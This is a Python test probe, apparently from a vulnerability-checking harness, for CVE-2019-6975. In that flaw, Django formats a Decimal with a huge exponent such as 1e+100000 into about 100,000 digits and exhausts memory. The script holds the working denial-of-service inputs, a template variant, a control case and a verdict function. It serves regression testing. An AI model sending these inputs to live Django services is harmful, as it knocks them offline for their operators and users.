# /// vertice-probe
# id = "PYSEC-2019-18"
# aliases = ["CVE-2019-6975", "GHSA-wh4h-v3f2-r2pp"]
# package = "django"
# summary = """\
#   Formatting a Decimal writes out all its zeros, so a short number with a huge exponent takes all the memory."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-770"]
# kind = "dos"
# symbols = [
#   "django.utils.numberformat.format",
#   "django.utils.formats.number_format",
#   "django.utils.formats.localize",
#   "django.template.Template",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "1.11" },
#   { fixed = "1.11.19" },
#   { introduced = "2.0" },
#   { fixed = "2.0.12" },
#   { introduced = "2.1" },
#   { fixed = "2.1.7" },
# ] }]
#
# [cases]
# attack = "numberformat.format of 1e+100000 gives 100 001 digits"
# [cases.variants]
# template = "a template prints 1e-100000"
# [cases.controls]
# amounts = "ordinary amounts are formatted with separators and decimals"
#
# [test]
# vulnerable = "2.1.5"
# fixed = "2.1.7"
# python = "<3.12"
# ///
"""CVE-2019-6975: numbers with huge exponents."""

import collections
import collections.abc
import json
import sys
from decimal import Decimal

for _name in collections.abc.__all__:  # Django of that time wants them where they were before Python 3.10
    if not hasattr(collections, _name):
        setattr(collections, _name, getattr(collections.abc, _name))


def prepare():
    import django
    from django.conf import settings

    settings.configure(
        TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}], USE_L10N=True, USE_I18N=False
    )
    django.setup()


def judge(text, output):
    if len(output) > 50000:
        return "exploited", "%d characters of input became %d of output" % (len(text), len(output))
    if output.lower() == text:
        return "blocked", "%s is given back in scientific notation" % text
    raise RuntimeError("unexpected output %r" % output[:80])


def attack():
    prepare()
    from django.utils import numberformat

    return judge("1e+100000", numberformat.format(Decimal("1e+100000"), "."))


def template():
    prepare()
    from django.template import Context, Template

    return judge("1e-100000", Template("{{ n }}").render(Context({"n": Decimal("1e-100000")})))


def amounts():
    prepare()
    from django.utils import numberformat

    got = (
        numberformat.format(Decimal("1234567.891"), ",", 2, 3, ".", force_grouping=True, use_l10n=False),
        numberformat.format(Decimal("-0.50"), "."),
        numberformat.format(12, ".", 1),
    )
    return ("works" if got == ("1.234.567,89", "-0.50", "12.0") else "broken"), repr(got)


CASES = {"attack": attack, "template": template, "amounts": amounts}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
